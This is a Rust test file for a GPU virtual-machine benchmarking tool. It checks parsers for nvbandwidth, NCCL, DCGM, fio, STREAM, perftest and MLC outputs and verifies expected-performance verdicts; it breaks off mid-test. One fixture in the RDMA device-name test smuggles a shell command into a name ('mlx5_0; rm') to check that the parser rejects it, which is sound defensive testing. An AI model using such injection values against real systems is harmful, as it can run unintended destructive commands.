//! Outputs of two versions of each program, rebuilt by their sources, and damaged ones; verdicts.

use super::*;
use crate::bdf::Bdf;
use crate::finding::Says;
use crate::p2p::{Op, Way};
use proptest::prelude::*;
use strum::IntoEnumIterator as _;

fn parts(gpus: usize) -> Parts {
    Parts { file: FioFile::Own("/var/tmp/x".into()), ..Parts::of_gpus(gpus) }
}

/// A run of perftest between two NICs of a guest.
fn rdma(tool: Tool, gpu: Option<usize>) -> RdmaCall {
    let device = |name: &str| RdmaDevice { name: name.into(), line_gbit_s: Some(400.0), at: None };
    let (client, server) = (device("mlx5_0"), device("mlx5_1"));
    let sides = (
        RdmaSide { device: &client, gpu },
        RdmaSide { device: &server, gpu: gpu.map(|gpu| gpu + 1) },
    );
    let address = std::net::Ipv4Addr::LOCALHOST;
    rdma_call(tool, Suite::Quick, 3, "mlx5_0 to mlx5_1".into(), sides, address)
}

fn call(tool: Tool) -> Call {
    match tool {
        Tool::IbWriteBw | Tool::IbReadBw => rdma(tool, None).client,
        _ => tool.calls(Suite::Quick, &parts(8)).remove(0),
    }
}

/// The values of an output, as `what device value`.
fn values(tool: Tool, output: &str) -> Vec<String> {
    let taken = read(&call(tool), output).unwrap_or_else(|error| panic!("{tool}: {error}"));
    let device = |one: &Reading| one.device.clone().unwrap_or_else(|| "-".into());
    let text = |one: &Reading| format!("{} {} {}", one.what, device(one), one.value);
    taken.readings.iter().map(text).collect()
}

fn faults(tool: Tool, output: &str) -> Vec<String> {
    let taken = read(&call(tool), output).unwrap();
    taken.faults.iter().map(|one| format!("{}: {}", one.code, one.message)).collect()
}

/// nvbandwidth 0.5 wrote no host name and no samples; 0.8 does.
const NVBANDWIDTH: [&str; 2] = [
    r#"{"nvbandwidth":{"CUDA Runtime Version":12040,"Driver Version":"550.54.15","git_version":"v0.5",
    "testcases":[{"name":"host_to_device_memcpy_ce","status":"Passed","bandwidth_matrix":[["55.2","54.9"]],
    "sum":110.1,"bandwidth_description":"memcpy CE CPU(row) -> GPU(column) bandwidth (GB/s)"}]}}"#,
    r#"nvbandwidth Version: v0.8
    {"nvbandwidth":{"Hostname":"vm","bufferSize":512,"testSamples":3,"useMean":false,"version":"v0.8",
    "GPU Device list":["0: NVIDIA H100 80GB HBM3: (00000000:05:00)"],"testcases":[
    {"name":"device_to_device_memcpy_read_ce","status":"Passed","bandwidth_matrix":
    [["N/A","381.5"],["380.9","N/A"]],"max":381.5,"min":380.9,"average":381.2,"sum":762.4},
    {"name":"device_to_host_memcpy_ce","status":"Error","error":"CUDA_ERROR_OUT_OF_MEMORY"},
    {"name":"host_to_device_memcpy_ce","status":"Waived"}]}}"#,
];

#[test]
fn nvbandwidth_is_read_by_gpu_and_by_pair() {
    let [old, new] = NVBANDWIDTH;
    let both = ["host-to-device GPU 0 55.2", "host-to-device GPU 1 54.9"];
    assert_eq!(values(Tool::Nvbandwidth, old), both);
    let pairs =
        ["device-to-device GPU 0 from GPU 1 381.5", "device-to-device GPU 1 from GPU 0 380.9"];
    assert_eq!(values(Tool::Nvbandwidth, new), pairs);
    // Each part without a value is named.
    let call = |gpus| Tool::Nvbandwidth.calls(Suite::Quick, &parts(gpus)).remove(0);
    assert_eq!(
        read(&call(3), &old.replace("54.9", "N/A")).unwrap().skipped,
        [
            "host_to_device_memcpy_ce: no value of GPU 1, GPU 2",
            "device_to_host_memcpy_ce: it is not in the output",
            "device_to_device_memcpy_read_ce: it is not in the output",
        ]
    );
    let waived = "host_to_device_memcpy_ce: its status is `Waived`";
    assert_eq!(read(&call(2), new).unwrap().skipped, [waived]);
    let pairs = "device_to_device_memcpy_read_ce: no value of 4 of 6 pairs of GPUs";
    assert_eq!(read(&call(3), new).unwrap().skipped, [pairs, waived]);
    let none = new.replace("Passed", "Not Found").replace("\"Error\"", "\"Waived\"");
    let error = read(&call(2), &none).unwrap_err().to_string();
    assert!(error.starts_with("device_to_device_memcpy_read_ce: its status is `Not"), "{error}");
    let failed = "test-failed: device_to_host_memcpy_ce: CUDA_ERROR_OUT_OF_MEMORY";
    assert_eq!(faults(Tool::Nvbandwidth, new), [failed]);
    // Without a GPU it says so in the document.
    let none = r#"{"nvbandwidth":{"error":"No CUDA devices found\n"}}"#;
    let error = read(&call(2), none).unwrap_err();
    assert_eq!((error.to_string().as_str(), error.is_reason()), ("No CUDA devices found", true));
}

const ALL_REDUCE: &str = "# nThread 1 nGpus 8 minBytes 1073741824 maxBytes 8589934592 step: 2(factor)
#  Rank  0 Group  0 Pid  4711 on vm device  0 [0x05] NVIDIA H100 80GB HBM3
#                                                              out-of-place                       in-place
#       size         count      type   redop    root     time   algbw   busbw #wrong     time   algbw   busbw #wrong
#        (B)    (elements)                               (us)  (GB/s)  (GB/s)            (us)  (GB/s)  (GB/s)
  1073741824     268435456     float     sum      -1   4123.9  260.37  455.65      0   4120.1  260.61  456.07    WRONG
  8589934592    2147483648     float     sum      -1    31880  269.44  471.52      0    31873  269.51  471.64    N/A
# Out of bounds values : 0 OK
# Avg bus bandwidth    : 463.718
";

#[test]
fn an_all_reduce_counts_by_its_best_bandwidth_and_its_wrong_values() {
    let good = ALL_REDUCE.replace("WRONG", "0");
    assert_eq!(values(Tool::AllReducePerf, &good), ["all-reduce - 471.64"]);
    assert_eq!(faults(Tool::AllReducePerf, &good), [""; 0]);
    let bad = ALL_REDUCE.replace("WRONG", "3");
    let wrong = "data-wrong: 3 values of the all-reduce are wrong";
    assert_eq!(faults(Tool::AllReducePerf, &bad), [wrong]);
    // A column more or less than known is no number.
    let error = read(&call(Tool::AllReducePerf), &good.replace("4123.9", "x")).unwrap_err();
    assert!(error.to_string().contains("a line of its table"), "{error}");
    let error = read(&call(Tool::AllReducePerf), "# only comments\n").unwrap_err();
    assert_eq!(error.to_string(), "its output has no table");
}

const DCGM: [&str; 2] = [
    r#"{"DCGM GPU Diagnostic":{"test_categories":[{"category":"Deployment","tests":[
    {"name":"Denylist","results":[{"status":"Pass"}]}]},{"category":"Integration","tests":[
    {"name":"PCIe","results":[{"gpu_ids":"0","status":"Pass"},{"gpu_ids":"1","status":"Fail",
    "warnings":["PCIe link width 8 of 16"]}]}]}],"version":"3.1.8"}}"#,
    r#"{"DCGM Diagnostic":{"test_categories":[{"category":"Hardware","tests":[{"name":"pcie",
    "results":[{"entity_group":"GPU","entity_id":0,"status":"Fail","warnings":[
    {"error_id":46,"warning":"Detected a link width of 8"}]}]}]}]}}"#,
];

#[test]
fn a_failed_diagnostic_names_its_gpu_and_code() {
    let [three, four] = DCGM;
    assert_eq!(faults(Tool::Dcgmi, three), ["test-failed: PCIe of GPU 1: PCIe link width 8 of 16"]);
    let said = "test-failed: pcie of GPU 0: Detected a link width of 8 (DCGM 46)";
    assert_eq!(faults(Tool::Dcgmi, four), [said]);
    assert_eq!(faults(Tool::Dcgmi, &three.replace("Fail", "Skip")), [""; 0]);
    assert!(read(&call(Tool::Dcgmi), r#"{"DCGM Diagnostic":{"test_categories":[]}}"#).is_err());
}

const FIO: &str = r#"fio: this platform does not support process shared mutexes
{"fio version":"fio-3.33","jobs":[{"jobname":"gpuvm","error":0,
"read":{"bw_bytes":2500000000,"iops":2384.2}}]}"#;

const STREAM: &str = "Function    Best Rate MB/s  Avg time     Min time     Max time
Copy:          330000.0     0.010     0.009     0.011
Triad:         345678.9     0.012     0.011     0.013
Solution Validates: avg error less than 1.000000e-13 on all three arrays
";

const CYCLICTEST: &str = r#"{"file_version":1,"cmdline:":"cyclictest -q","rt_test_version:":"2.40",
"thread":{"0":{"histogram":{},"cycles":10000,"min":3,"max":41,"avg":5.1,"cpu":0},
"1":{"histogram":{},"cycles":9990,"min":3,"max":27,"avg":4.9,"cpu":1}}}
T: 0 (5855) P:95 I:1000 C:10000 Min: 3 Act: 5 Avg: 5 Max: 41"#;

#[test]
fn disks_memory_and_timers_are_read() {
    assert_eq!(values(Tool::Fio, FIO), ["disk-read - 2.5"]);
    let random = &Tool::Fio.calls(Suite::Quick, &parts(0))[1];
    assert_eq!(read(random, FIO).unwrap().readings[0].value, 2384.2);
    assert!(read(random, &FIO.replace("\"error\":0", "\"error\":28")).is_err());
    assert_eq!(values(Tool::Stream, STREAM), ["triad - 345.6789"]);
    let wrong = STREAM.replace("Solution Validates", "Failed Validation on array");
    assert_eq!(faults(Tool::Stream, &wrong), ["data-wrong: the results of STREAM are wrong"]);
    assert_eq!(values(Tool::Cyclictest, CYCLICTEST), ["timer-latency - 41"]);
}

/// The report on standard output, behind the table for people: before January 2024, and since then.
const PERFTEST: [&str; 2] = [
    " #bytes     #iterations    BW peak[Gb/sec]    BW average[Gb/sec]   MsgRate[Mpps]
{
test_info: {
test: RDMA_Write_BW_Test
Device: mlx5_0
},
results: {
MsgSize: 65536,
n_iterations: 1870000,
BW_peak: 0.00,
BW_average: 392.31,
MsgRate: 0.748273,
},
}
",
    " 65536      1873455          0.00               387.60             0.739288
{
\"test_info\": {
\"test\": \"RDMA_Read_BW_Test\",
\"Device\": \"mlx5_0\",
\"cuda_device\": 0,
\"Data_ex_method\": \"Ethernet\"
},
\"results\": {
\"MsgSize\": 65536,
\"n_iterations\": 1848000,
\"BW_peak\": 0.00,
\"BW_average\": 387.60,
\"MsgRate\": 0.739288
}
}
",
];

#[test]
fn both_reports_of_perftest_are_read() {
    let [old, new] = PERFTEST;
    assert_eq!(values(Tool::IbWriteBw, old), ["rdma-write mlx5_0 to mlx5_1 392.31"]);
    assert_eq!(values(Tool::IbReadBw, new), ["rdma-read mlx5_0 to mlx5_1 387.6"]);
    let of_gpu = rdma(Tool::IbWriteBw, Some(2));
    assert_eq!(read(&of_gpu.client, new).unwrap().readings[0].what, What::RdmaWriteGpu);
    let words = |call: &[String]| call.join(" ");
    assert_eq!(
        words(&of_gpu.client.words),
        "-d mlx5_0 -F -D 5 --report_gbits -p 18518 --use_cuda=2 --out_json \
         --out_json_file=/dev/stdout 127.0.0.1"
    );
    assert_eq!(words(&of_gpu.server), "-d mlx5_1 -F -D 5 --report_gbits -p 18518 --use_cuda=3");
    // The table for people alone is no report.
    let table = old.lines().next().unwrap();
    let error = read(&of_gpu.client, table).unwrap_err();
    assert_eq!(error.to_string(), "its report has no average");
    assert!(read(&of_gpu.client, &new.replace("387.60", "nan")).is_err());
}

#[test]
fn rdma_devices_are_read_and_paired() {
    let names = "mlx5_10\nmlx5_9\n-d\nmlx5_0; rm\nirdma-x\n\n";
    assert_eq!(read_rdma_names(names), ["irdma-x", "mlx5_9", "mlx5_10"]);
    assert_eq!(read_rdma_names(&"a\n".repeat(999)), ["a"]);
    let many: String = (0..999).map(|number| format!("mlx5_{number}\n")).collect();
    let names = read_rdma_names(&many);
    assert_eq!((names.len(), &*names[63]), (64, "mlx5_63"));
    let rate = |text| read_rdma_port("mlx5_0", text).map(|device| device.line_gbit_s);
    assert_eq!(rate("4: ACTIVE\n400 Gb/sec (4X NDR)\n"), Some(Some(400.0)));
    assert_eq!(rate("4: ACTIVE\n2.5 Gb/sec (1X SDR)\n"), Some(Some(2.5)));
    let odd = ["nan", "-1", "1e300", "5e-324"].map(|rate| format!("4: ACTIVE\n{rate} Gb/sec\n"));
    for text in odd.iter().map(String::as_str).chain(["4: ACTIVE\n"]) {
        assert_eq!(rate(text), Some(None), "{text}");
    }
    assert_eq!(rate("1: DOWN\n400 Gb/sec (4X NDR)\n"), None);
    assert_eq!(rate(""), None);
    let pairs = |own, peer| -> Vec<(usize, usize)> {
        rdma_pairs(own, peer).iter().map(|pair| (pair.client, pair.server)).collect()
    };
    assert_eq!(pairs(3, None), [(0, 1), (2, 2)]);
    assert_eq!(pairs(3, Some(2)), [(0, 0), (1, 1)]);
    assert_eq!(pairs(0, None), []);
    let uevent = "DRIVER=mlx5_core\nPCI_ID=15B3:1021\nPCI_SLOT_NAME=0000:07:00.0\n";
    let device = read_rdma_port("mlx5_0", &format!("4: ACTIVE\n400 Gb/sec (4X NDR)\n{uevent}"));
    assert_eq!(device.unwrap().at, "07:00.0".parse().ok());
}

/// The relation of a NIC to a GPU this many ports below their switch, if they have one.
fn relation(steps: Option<usize>, write: Way, read: Way, gb_s: f64) -> NicGpu {
    let transfer = |way| NicTransfer { way, gb_s: Some(gb_s) };
    NicGpu { steps, write: transfer(write), read: transfer(read) }
}

#[test]
fn a_device_goes_with_a_gpu_at_its_switch() {
    let at = |bus: u8| Bdf::new(0, bus, 0, 0).ok();
    let device =
        |bus: u8| RdmaDevice { name: format!("mlx5_{bus}"), line_gbit_s: None, at: at(bus) };
    let gpus = |number: u8| -> Vec<Option<Bdf>> { (0..number).map(|gpu| at(100 + gpu)).collect() };
    let all = |devices: &[RdmaDevice], gpus: &[Option<Bdf>], links: &NicLinks| -> Vec<_> {
        (0..devices.len()).map(|device| rdma_gpu(device, devices, gpus, links)).collect()
    };
    let devices: Vec<_> = (0..4).map(device).collect();
    let none = NicLinks::default();
    assert_eq!(all(&devices, &gpus(8), &none), [Some(0), Some(2), Some(4), Some(6)]);
    assert_eq!(all(&devices, &gpus(1), &none), [Some(0); 4]);
    assert_eq!(all(&devices, &[], &none), [None; 4]);
    // Device 0 is at the switch of GPU 3, devices 1 and 2 at that of GPUs 0 and 1, whatever the way
    // of their transfers is; GPU 2 is at a switch above.
    let near = [(0, 103, 1), (1, 100, 1), (1, 101, 1), (2, 100, 1), (2, 101, 1), (2, 102, 3)];
    let pairs = near.into_iter().map(|(nic, gpu, steps)| {
        let relation = relation(Some(steps), Way::Root, Way::Unknown, 24.0);
        (at(nic).zip(at(gpu)).unwrap(), relation)
    });
    let links = NicLinks { pairs: pairs.collect(), ..NicLinks::default() };
    assert_eq!(all(&devices, &gpus(4), &links), [Some(3), Some(0), Some(1), Some(3)]);
}

#[test]
fn a_side_reaches_the_rate_of_its_own_nic_and_way() {
    let at = |bus: u8| Bdf::new(0, bus, 0, 0).ok();
    let (nic, gpu) = (at(1).unwrap(), at(2).unwrap());
    let device = RdmaDevice { name: "mlx5_0".into(), line_gbit_s: Some(400.0), at: Some(nic) };
    let links = |relation: NicGpu| NicLinks {
        nics: [(nic, Some(12.0))].into(),
        pairs: [((nic, gpu), relation)].into(),
    };
    let gpus = [Some(gpu), at(3)];
    let side = |gpu: Option<usize>| RdmaSide { device: &device, gpu };
    // Writes turn at the switch, reads do not.
    let found = links(relation(Some(1), Way::Switch, Way::Root, 24.0));
    let reach = |gpu, op| found.reach(side(gpu), &gpus, op);
    let rate = |gb_s, part| RdmaReach { gb_s: Some(gb_s), part: Some(part) };
    assert_eq!(reach(None, Op::Write), rate(12.0, 0.9));
    assert_eq!(reach(Some(0), Op::Write), rate(24.0, 0.9));
    assert_eq!(reach(Some(0), Op::Read), rate(24.0, 0.5));
    // Nothing is known of a GPU or a NIC whose address is not, or of a rejected transfer.
    let unknown = RdmaReach::default();
    assert_eq!(reach(Some(1), Op::Write), unknown);
    let nameless = RdmaDevice { at: None, ..device.clone() };
    let side_of = RdmaSide { device: &nameless, gpu: Some(0) };
    assert_eq!(found.reach(side_of, &gpus, Op::Write), unknown);
    let rejected = links(relation(Some(1), Way::Rejected, Way::Unknown, 24.0));
    for op in [Op::Write, Op::Read] {
        assert_eq!(rejected.reach(side(Some(0)), &gpus, op).part, None);
    }
    assert_eq!(Tool::IbWriteBw.rdma_ops(), [Op::Read, Op::Write]);
    assert_eq!(Tool::IbReadBw.rdma_ops(), [Op::Write, Op::Read]);
}

/// Of a machine that lets prefetchers be switched off, and of one that does not.
const MLC: [&str; 2] = [
    "Intel(R) Memory Latency Checker - v3.7
Command line parameters: --latency_matrix

Using buffer size of 200.000MiB
Measuring idle latencies (in ns)...
\t\tNuma node
Numa node\t     0\t     1\t
       0\t  78.5\t 119.4\t
       1\t 120.8\t  76.6\t
",
    "Intel(R) Memory Latency Checker - v3.11
*** Unable to modify prefetchers (try executing 'modprobe msr')
*** So, enabling random access for latency measurements
Measuring idle latencies for random access (in ns)...
                Numa node
Numa node            0       1       2
       0         253.1   429.6       -
       1         392.7   287.3   400.0

",
];

#[test]
fn latencies_of_cells_are_read_and_equal_ones_are_a_fault() {
    let [old, new] = MLC;
    let read_old = values(Tool::Mlc, old);
    assert_eq!(read_old.len(), 4);
    assert_eq!(read_old[1], "memory-latency cell 0 to memory of cell 1 119.4");
    assert_eq!(faults(Tool::Mlc, old), [""; 0]);
    // A cell without free memory, and one without vCPUs.
    assert_eq!(values(Tool::Mlc, new).len(), 5);
    let flat = old.replace("119.4", "78.5");
    let said =
        "cells-alike: memory of cell 1 is as near to cell 0 as its own (78.5 ns, own 78.5 ns)";
    assert_eq!(faults(Tool::Mlc, &flat), [said]);
    let one =
        "Measuring idle latencies (in ns)...\n\tMemory node\nSocket\t     0\n     0\t  93.1\n";
    assert_eq!(values(Tool::Mlc, one), ["memory-latency cell 0 to memory of cell 0 93.1"]);
    for (damaged, says) in [
        (old.replace("Measuring idle", "x"), "has no idle latencies"),
        (old.replace("\n       0\t  78.5\t 119.4", "\n       0\t  78.5"), "a line of its matrix"),
        (old.replace("119.4", "1l9"), "a line of its matrix"),
        (old.replace("Numa node\t", "Cell\t"), "has no matrix"),
        (old.replace("\n       0\t", "\nfailed\t"), "its matrix is empty"),
    ] {
        let error = read(&call(Tool::Mlc), &damaged).unwrap_err().to_string();
        assert!(error.contains(says), "{error}");
    }
}

#[test]
fn stream_runs_in_each_cell_and_fio_only_reads_a_given_file() {
    assert_eq!(read_cells("has_cpu\nnode1\nnode0\nonline\nnodex\n").unwrap(), [0, 1]);
    // A guest decides neither how often a program runs nor for how long.
    assert_eq!(read_cells("node0\nnode0\nnode1\nnode00\n").unwrap(), [0, 1]);
    let many: String = (0..65).map(|cell| format!("node{cell}\n")).collect();
    let error = read_cells(&many).unwrap_err().to_string();
    assert_eq!(error, "the guest lists more than 64 cells");
    let numactl = Some("/usr/bin/numactl".to_owned());
    let cells = Parts { cells: vec![0, 1], numactl, ..parts(0) };
    let calls = Tool::Stream.calls(Suite::Quick, &cells);
    assert_eq!(calls[1].before, ["/usr/bin/numactl", "--cpunodebind=1", "--membind=1"]);
    let taken = read(&calls[1], STREAM).unwrap();
    assert_eq!(taken.readings[0].device.as_deref(), Some("cell 1"));
    let whole = Parts { numactl: None, ..cells };
    assert_eq!(Tool::Stream.calls(Suite::Quick, &whole).len(), 1);
    let given = FioFile::Existing("/dev/disk/by-path/pci-0000:05:00.0".into());
    for call in Tool::Fio.calls(Suite::Quick, &Parts { file: given, ..parts(0) }) {
        let words = call.words.join(" ");
        assert!(words.contains("--filename=/dev/disk/by-path/pci-0000\\:05\\:00.0 --readonly"));
        assert!(!words.contains("--unlink") && !words.contains("--size"), "{words}");
    }
}

const SMI: &str = "<?xml version=\"1.0\" ?>
<!DOCTYPE nvidia_smi_log SYSTEM \"nvsmi_device_v12.dtd\">
<nvidia_smi_log><driver_version>550.54.15</driver_version><attached_gpus>1</attached_gpus>
<gpu id=\"00000000:05:00.0\"><product_name>NVIDIA H100 80GB HBM3</product_name>
<clocks_event_reasons><clocks_event_reason_gpu_idle>Not Active</clocks_event_reason_gpu_idle>
<clocks_event_reason_sw_thermal_slowdown>Active</clocks_event_reason_sw_thermal_slowdown>
</clocks_event_reasons><utilization><gpu_util>7 %</gpu_util></utilization>
<processes><process_info><pid>7</pid><type>C</type></process_info>
<process_info><pid>8</pid><type>G</type></process_info></processes></gpu></nvidia_smi_log>";

#[test]
fn gpus_are_read_in_both_spellings_of_the_driver() {
    let old = SMI.replace("clocks_event_reason", "clocks_throttle_reason");
    for text in [SMI, &old] {
        let gpus = read_gpus(text).unwrap();
        let heat = vec!["heat".to_owned()];
        let [GpuState { name, driver, busy_percent: 7, processes: 1, throttled, .. }] = &gpus[..]
        else {
            panic!("{gpus:?}");
        };
        assert_eq!((name.as_str(), driver.as_str()), ("NVIDIA H100 80GB HBM3", "550.54.15"));
        assert_eq!(*throttled, heat);
    }
    assert!(read_gpus("NVIDIA-SMI has failed").is_err());
}

/// An output of each program.
fn outputs() -> Vec<(Tool, String)> {
    let mut all: Vec<(Tool, String)> =
        NVBANDWIDTH.iter().map(|text| (Tool::Nvbandwidth, (*text).to_owned())).collect();
    all.extend(DCGM.iter().map(|text| (Tool::Dcgmi, (*text).to_owned())));
    let others = [
        (Tool::AllReducePerf, ALL_REDUCE),
        (Tool::Fio, FIO),
        (Tool::Stream, STREAM),
        (Tool::Cyclictest, CYCLICTEST),
        (Tool::IbWriteBw, PERFTEST[0]),
        (Tool::IbReadBw, PERFTEST[1]),
        (Tool::Mlc, MLC[0]),
        (Tool::Mlc, MLC[1]),
    ];
    all.extend(others.map(|(tool, text)| (tool, text.to_owned())));
    all
}

proptest! {
    #[test]
    fn damaged_output_is_refused_or_read_but_never_a_panic(
        which in 0..12_usize,
        at in 0.0..1.0_f64,
        with in prop::sample::select(vec!["", "9e999", "-5", "\"", "}", "nan", "\u{0}"]),
    ) {
        let all = outputs();
        let (tool, text) = &all[which % all.len()];
        let at = (text.len() as f64 * at) as usize;
        let at = (0..=at).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
        let end = if with.is_empty() { text.len() } else { at };
        let damaged = format!("{}{with}{}", &text[..at], &text[end..]);
        if let Ok(taken) = read(&call(*tool), &damaged) {
            prop_assert!(taken.readings.iter().all(Reading::is_sound), "{damaged}");
        }
        let cut = SMI.char_indices().map(|(at, _)| at).nth(at.min(SMI.len() - 1)).unwrap_or(0);
        let _ = read_gpus(&SMI[..cut]);
    }
}

fn h100s(gpus: usize) -> Shape {
    Shape { model: "NVIDIA H100 80GB HBM3".into(), gpus, driver: "550.54.15".into() }
}

fn reading(what: What, value: f64) -> Reading {
    Reading { what, device: None, value }
}

/// The verdict on a value, with the expected value.
fn verdict(what: What, value: f64, of: (&Shape, Promise), runs: &[Run]) -> (Verdict, Option<f64>) {
    let line = judge(Tool::Fio, reading(what, value), of, Basis { runs, ..Basis::of(&[]) });
    (line.verdict, line.expected.map(|value| value.round()))
}

#[test]
fn the_expected_value_is_the_smaller_of_path_and_table() {
    let fast = Promise { path_gb_s: Some(48.0), nvlinks: 18, ..Promise::default() };
    let slow = Promise { path_gb_s: Some(24.0), nvlinks: 18, ..Promise::default() };
    let eight = h100s(8);
    let h2d = What::HostToDevice;
    assert_eq!(verdict(h2d, 50.0, (&eight, fast), &[]), (Verdict::Ok, Some(43.0)));
    assert_eq!(verdict(h2d, 20.0, (&eight, fast), &[]), (Verdict::Low, Some(43.0)));
    assert_eq!(verdict(h2d, 23.0, (&eight, slow), &[]), (Verdict::Ok, Some(22.0)));
    // The whole board has a published number, a part of it the rate of its links.
    assert_eq!(verdict(What::AllReduce, 413.0, (&eight, fast), &[]), (Verdict::Low, Some(414.0)));
    assert_eq!(verdict(What::AllReduce, 340.0, (&h100s(4), fast), &[]), (Verdict::Ok, Some(338.0)));
    // Without NVLink nothing is known, nor of an unknown model.
    let none = Promise::default();
    assert_eq!(verdict(What::AllReduce, 9.0, (&eight, none), &[]), (Verdict::NoReference, None));
    let other = Shape { model: "NVIDIA X".into(), ..h100s(8) };
    assert_eq!(verdict(What::AllReduce, 9.0, (&other, fast), &[]), (Verdict::NoReference, None));
    // Of a mesh with fewer links only copies are known, by the fewest between two GPUs.
    let mesh = Promise { nvlinks: 1, ..fast };
    let old = Shape { model: "Tesla V100-SXM2-16GB".into(), ..h100s(4) };
    assert_eq!(verdict(What::DeviceToDevice, 20.0, (&old, mesh), &[]), (Verdict::Ok, Some(19.0)));
    assert_eq!(verdict(What::AllReduce, 20.0, (&old, mesh), &[]), (Verdict::NoReference, None));
    // A GB200 is no B200.
    let grace = Shape { model: "NVIDIA GB200".into(), ..h100s(4) };
    assert_eq!(verdict(What::AllReduce, 433.0, (&grace, fast), &[]), (Verdict::Ok, Some(432.0)));
}

#[test]
fn the_admins_values_replace_all_others() {
    let fast = Promise { path_gb_s: Some(48.0), nvlinks: 18, ..Promise::default() };
    let of = |model: &str, values: &[(What, f64)]| OwnExpected {
        model: model.into(),
        values: values.iter().copied().collect(),
    };
    let own = [
        of("A100", &[(What::HostToDevice, 1.0)]),
        // In upper or lower case.
        of("h100", &[(What::HostToDevice, 2.0), (What::MemoryLatency, 100.0)]),
        // A whole name says more than a word of it, in any order.
        of("NVIDIA H100 80GB HBM3", &[(What::AllReduce, 475.0), (What::HostToDevice, 54.0)]),
    ];
    let judged = |what, value, threshold| {
        let basis = Basis { threshold, ..Basis::of(&own) };
        let line = judge(Tool::Fio, reading(what, value), (&h100s(8), fast), basis);
        (line.verdict, line.expected, line.source.unwrap_or_default())
    };
    let file = "/etc/gpuvm/expected.toml".to_owned();
    let low = (Verdict::Low, Some(54.0), file.clone());
    assert_eq!(judged(What::HostToDevice, 53.0, 1.0), low);
    assert_eq!(judged(What::AllReduce, 470.0, 1.0), (Verdict::Low, Some(475.0), file.clone()));
    // A factor accepts less of a rate, and more of a delay.
    assert_eq!(judged(What::HostToDevice, 53.0, 0.5), (Verdict::Ok, Some(27.0), file.clone()));
    assert_eq!(judged(What::MemoryLatency, 190.0, 0.5), (Verdict::Ok, Some(200.0), file));
    assert_eq!(judged(What::DeviceToHost, 50.0, 1.0).0, Verdict::Ok);
}

/// A log of two GPUs, in front of the table.
const NCCL: &str = "vm:4711:4711 [0] NCCL INFO Bootstrap: Using eth0:192.0.2.7<0>
vm:4711:4733 [0] NCCL INFO NVLS multicast support is available on dev 0 (NVLS_NCHANNELS 16)
vm:4711:4734 [1] NCCL INFO NVLS multicast support is not available on dev 1 (NVLS_NCHANNELS 0)
vm:4711:4733 [0] NCCL INFO Channel 00/02 : 0 1
vm:4711:4733 [0] NCCL INFO Channel 00/0 : 0[0] -> 1[1] via P2P/CUMEM/read
vm:4711:4734 [1] NCCL INFO Channel 00 : 1[1] -> 0[0] via SHM/direct/direct
";

#[test]
fn the_log_of_nccl_explains_a_low_speed() {
    let log = NcclLog::read(NCCL);
    assert_eq!(log, NcclLog { direct: 1, through_memory: 1, nvls: Some(false) });
    let notes = log.notes(&h100s(2));
    assert!(notes.len() == 2 && notes[0].contains("(SHM) on 1 of 2 channels"), "{notes:?}");
    // Older boards have no such switches, and another output says nothing.
    let volta = Shape { model: "Tesla V100-SXM3-32GB".into(), ..h100s(2) };
    assert_eq!(log.notes(&volta).len(), 1);
    assert_eq!(NcclLog::read(ALL_REDUCE), NcclLog::default());
    assert_eq!(NcclLog::default().notes(&h100s(2)), [""; 0]);
    // The table behind the log is read as without it.
    let both = format!("{NCCL}{}", ALL_REDUCE.replace("WRONG", "0"));
    assert_eq!(values(Tool::AllReducePerf, &both), ["all-reduce - 471.64"]);
}

#[test]
fn rdma_is_expected_by_the_line_and_the_way_to_the_gpus() {
    let shape = h100s(8);
    let reach = |gb_s: f64, part: f64| RdmaReach { gb_s: Some(gb_s), part: Some(part) };
    let promise = |line: Option<f64>, sides| Promise {
        rdma: RdmaPromise { line_gbit_s: line, sides },
        ..Promise::default()
    };
    let of = |what, promise| verdict(what, 300.0, (&shape, promise), &[]);
    let line = Some(400.0);
    // 48 GB/s of PCIe are 384 Gb/s, less than the line.
    let fast = promise(line, [reach(48.0, 0.9); 2]);
    assert_eq!(of(What::RdmaWrite, fast), (Verdict::Low, Some(346.0)));
    // Each side counts by its own path and way.
    let root = promise(line, [reach(48.0, 0.9), reach(48.0, 0.5)]);
    assert_eq!(of(What::RdmaWriteGpu, root), (Verdict::Ok, Some(192.0)));
    let mixed = promise(line, [reach(24.0, 0.9), reach(48.0, 0.5)]);
    assert_eq!(of(What::RdmaReadGpu, mixed), (Verdict::Ok, Some(173.0)));
    // A single slow lane is expected to be slow, not to have no rate.
    let lane = promise(line, [reach(48.0, 0.9), reach(0.1875, 0.9)]);
    let expected =
        judge(Tool::IbWriteBw, reading(What::RdmaWrite, 1.0), (&shape, lane), Basis::of(&[]));
    assert_eq!((expected.expected, expected.verdict), (Some(1.5 * 0.9), Verdict::Low));
    assert_eq!(expected.source.unwrap(), "PCIe path of 1.5 Gb/s x 0.9");
    let slow = promise(Some(200.0), [reach(48.0, 0.9); 2]);
    assert_eq!(of(What::RdmaWrite, slow), (Verdict::Ok, Some(180.0)));
    let none = (Verdict::NoReference, None);
    assert_eq!(of(What::RdmaWrite, promise(None, [reach(48.0, 0.9); 2])), none);
    let half = promise(line, [reach(48.0, 0.9), RdmaReach::default()]);
    assert_eq!(of(What::RdmaWriteGpu, half), none);
    // What measures a quantity is its program.
    for what in What::iter() {
        assert!(Tool::iter().any(|tool| tool == what.tool()));
    }
}

#[test]
fn the_newest_value_of_each_quantity_is_of_the_same_gpus() {
    let run = |at_s, gpus, readings: &[(What, f64)]| Run {
        suite: Some(Suite::Quick),
        at_s,
        shape: h100s(gpus),
        readings: readings.iter().map(|&(what, value)| reading(what, value)).collect(),
    };
    let runs = [
        run(1, 4, &[(What::DiskRead, 9.0)]),
        run(2, 8, &[(What::Triad, 300.0), (What::AllReduce, 470.0)]),
        run(3, 8, &[(What::Triad, 310.0)]),
    ];
    let newest = newest(&runs);
    let quick = Some(Suite::Quick);
    let of = |what, value| (quick, reading(what, value));
    assert_eq!(newest, [of(What::Triad, 310.0), of(What::AllReduce, 470.0)]);
    assert_eq!(super::newest(&[]), []);
    // Each suite has values of its own.
    let full = Run { suite: Some(Suite::Full), ..run(4, 8, &[(What::Triad, 320.0)]) };
    let both = super::newest(&[run(3, 8, &[(What::Triad, 310.0)]), full]);
    assert_eq!(both, [(Some(Suite::Full), reading(What::Triad, 320.0)), of(What::Triad, 310.0)]);
}

#[test]
fn a_guest_is_compared_with_its_own_last_runs() {
    let shape = h100s(8);
    let of = (&shape, Promise::default());
    let run = |at_s: u64, shape: Shape, value: f64| Run {
        suite: Some(Suite::Quick),
        at_s,
        shape,
        readings: vec![reading(What::Triad, value)],
    };
